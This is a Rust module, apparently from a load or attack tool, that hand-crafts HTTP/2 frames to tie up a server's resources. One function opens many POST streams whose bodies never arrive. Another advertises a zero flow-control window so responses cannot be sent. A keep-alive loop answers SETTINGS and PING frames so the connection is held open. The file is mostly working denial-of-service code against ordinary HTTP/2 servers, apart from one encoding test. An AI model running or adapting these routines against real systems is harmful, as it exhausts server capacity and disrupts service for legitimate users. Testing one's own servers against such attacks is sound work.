//! Misuses HTTP/2 with frames made by hand. It acknowledges settings and pings, so that the server
//! considers the connection alive.
//!
//! Source: RFC 9113 (frames), RFC 7541 (the static table of headers).

use std::io;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::attacker::Attacker;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// `SETTINGS_INITIAL_WINDOW_SIZE` = 0: the server may send nothing on a stream.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];

/// The largest frame that is read, in bytes.
const FRAME_MAX: usize = 1 << 20;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Returns a request's headers, all from the static table except path and authority.
fn request(method_index: u8, path: &str) -> Vec<u8> {
    // :scheme http
    let mut block = vec![0x80 | method_index, 0x86];
    for (name_index, value) in [(4, path), (1, "x")] {
        block.push(name_index);
        block.push(u8::try_from(value.len()).unwrap_or(0x7e).min(0x7e));
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// Opens requests whose body never arrives.
pub async fn unfinished(attacker: &Attacker, streams: u32) -> io::Result<()> {
    const POST: u8 = 3;
    let (reads, mut writes) = open(attacker, &[]).await?;
    let block = request(POST, "/v1/accounts");
    for number in 0..streams {
        writes.write_all(&frame(HEADERS, END_HEADERS, 2 * number + 1, &block)).await?;
    }
    stay(reads, writes).await
}

/// Opens requests whose answers the server may not send.
pub async fn without_window(attacker: &Attacker, path: &str, streams: u32) -> io::Result<()> {
    const GET: u8 = 2;
    let (reads, mut writes) = open(attacker, NO_WINDOW).await?;
    let block = request(GET, path);
    for number in 0..streams {
        writes.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block)).await?;
    }
    stay(reads, writes).await
}

async fn open(attacker: &Attacker, settings: &[u8]) -> io::Result<(OwnedReadHalf, OwnedWriteHalf)> {
    let mut stream: TcpStream = attacker.connect().await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    Ok(stream.into_split())
}

/// Answers the frames that keep a connection alive, until the server cuts it.
async fn stay(mut reads: OwnedReadHalf, mut writes: OwnedWriteHalf) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        reads.read_exact(&mut head).await?;
        let length = usize::try_from(u32::from_be_bytes([0, head[0], head[1], head[2]])).unwrap_or(FRAME_MAX);
        let mut payload = vec![0; length.min(FRAME_MAX)];
        reads.read_exact(&mut payload).await?;
        match (head[3], head[4] & ACK) {
            (SETTINGS, 0) => writes.write_all(&frame(SETTINGS, ACK, 0, &[])).await?,
            (PING, 0) => writes.write_all(&frame(PING, ACK, 0, &payload)).await?,
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_headers_are_those_of_the_standard() {
        assert_eq!(frame(PING, ACK, 0, &[7; 8]), [0, 0, 8, 6, 1, 0, 0, 0, 0, 7, 7, 7, 7, 7, 7, 7, 7]);
        assert_eq!(frame(HEADERS, 5, 3, b"a"), [0, 0, 1, 1, 5, 0, 0, 0, 3, b'a']);
        assert_eq!(request(2, "/a"), [0x82, 0x86, 4, 2, b'/', b'a', 1, 1, b'x']);
    }
}
